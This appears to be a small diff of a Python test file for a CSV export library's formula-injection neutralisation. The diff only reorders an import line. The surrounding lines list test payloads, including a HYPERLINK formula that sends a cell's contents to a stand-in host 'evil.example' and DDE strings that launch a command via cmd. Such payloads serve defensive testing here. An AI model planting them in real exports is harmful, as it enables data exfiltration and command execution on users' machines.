@@ -8,7 +8,7 @@ from decimal import Decimal
 from hypothesis import given
 from hypothesis import strategies as st
 
-from courtlib.csvexport import BOM, BR, PLAIN, FORMULA_STARTS, cell, neutralise, write_csv
+from courtlib.csvexport import BOM, BR, FORMULA_STARTS, PLAIN, cell, neutralise, write_csv
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3", "\tSUM(1,2)", "\r=1+1", "=1+1")
